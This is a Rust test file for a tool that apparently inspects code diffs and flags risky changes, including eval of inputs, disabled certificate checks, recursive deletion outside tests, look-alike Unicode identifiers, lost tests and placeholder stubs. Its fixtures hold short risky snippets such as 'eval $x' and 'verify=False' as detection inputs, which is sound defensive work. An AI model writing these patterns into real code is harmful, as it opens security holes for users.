        ("a.sh", "echo 'never eval $x'\n", "eval $x\n", "dangerous_pattern"),
        (
            "a.py",
            "HELP = \"do not set verify=False\"\n",
            "s.get(u, verify=False)\n",
            "certificate_checks_off",
        ),
        (
            "src/a.rs",
            "fn f() {}\n#[cfg(test)]\nmod tests {\n    fn t() { fs::remove_dir_all(p); }\n}\n",
            "fn f() { fs::remove_dir_all(p); }\n#[cfg(test)]\nmod tests {\n}\n",
            "dangerous_pattern",
        ),
        ("a.py", "eval(a)\n", "eval(a); eval(b)\n", "dangerous_pattern"),
    ] {
        assert!(has(&one(path, Some(before), Some(after)), name), "{path}: {after}");
    }
    for (path, before, after) in [
        ("a.py", "x = 1\neval(a)\n", "eval(a)\nx = 1\n"),
        ("a.py", "S = \"eval(a)\"\nx = 1\n", "x = 1\nS = \"eval(a)\"\n"),
        ("a.py", "eval(a); eval(b)\n", "eval(a)\neval(b)\n"),
    ] {
        assert!(!has(&one(path, Some(before), Some(after)), "dangerous_pattern"), "{after}");
    }
}

#[test]
fn a_comment_is_no_place_for_look_alikes() {
    let named = |line: &str| one("a.py", Some("c = 1\n"), Some(&format!("c = 1\n{line}\n")));
    for line in ["# работа с файлом", "x = 1  # р\u{430}ssword и с", "\"\"\"с\"\"\""]
    {
        assert!(!has(&named(line), "look_alike_identifier"), "{line}");
    }
    assert!(has(&named("x = p\u{430}ssword"), "look_alike_identifier"));
}

#[test]
fn tests_that_move_where_nothing_runs_them_are_lost() {
    let test = "def test_a():\n    assert f()\n";
    let moved = |from: &str, to: &str| {
        let step = |step, path, before, after| StepInput {
            step,
            path: RelPath::parse(path).unwrap(),
            before,
            after,
            moved: false,
        };
        let steps = vec![
            step("s1", from, Some(test.as_bytes()), None),
            step("s2", to, None, Some(test.as_bytes())),
        ];
        has(&inspect(&Request { steps, ..Request::default() }).facts, "tests_lost")
    };
    for to in ["tests/test_a.py.bak", "old/x.txt", "tests/a.py", "tests/fixtures/test_a.py"] {
        assert!(moved("tests/test_a.py", to), "{to}");
    }
    for to in ["tests/unit/test_a.py", "pkg/test_a.py", "tests/test_b.py"] {
        assert!(!moved("tests/test_a.py", to), "{to}");
    }
}

#[test]
fn next_to_nothing_left_of_a_short_file_is_a_large_removal() {
    let short = lines("line", 99);
    assert!(has(&one("a.ini", Some(&short), Some("# moved\n")), "large_removal"));
    assert!(has(&one("a.ini", Some(&lines("line", 20)), Some("x\n")), "large_removal"));
    assert!(!has(&one("a.ini", Some(&lines("line", 19)), Some("x\n")), "large_removal"));
    assert!(!has(&one("a.ini", Some(&short), Some(&lines("line", 20))), "large_removal"));
}

#[test]
fn a_script_is_read_as_what_runs_it() {
    for (first, line) in [
        ("#!/usr/bin/env python3", "exec(data)"),
        ("#!/usr/bin/env node", "eval(process.argv[2])"),
        ("#!/usr/bin/env ruby", "eval(ARGV[0])"),
    ] {
        let before = format!("{first}\n");
        let after = format!("{first}\n{line}\n");
        assert!(has(&one("bin/x", Some(&before), Some(&after)), "dangerous_pattern"), "{first}");
    }
}

#[test]
fn what_a_model_leaves_out_is_a_placeholder() {
    let body = "    charge(order)\n    order.paid = True\n    order.save()\n";
    let before = format!("def _pay(order):\n{body}");
    let after = "def _pay(order):\n    pass\n";
    assert!(has(&one("a.py", Some(&before), Some(after)), "placeholder_added"));
    assert!(!has(&one("a.py", None, Some(after)), "placeholder_added"), "a new one");
    let calls = lines("  call();", 30);
    let before = format!("function App() {{\n{calls}}}\n");
    let after = "function App() {\n  useNew();\n  // ...\n}\n";
    assert!(has(&one("a.js", Some(&before), Some(after)), "placeholder_added"));
}
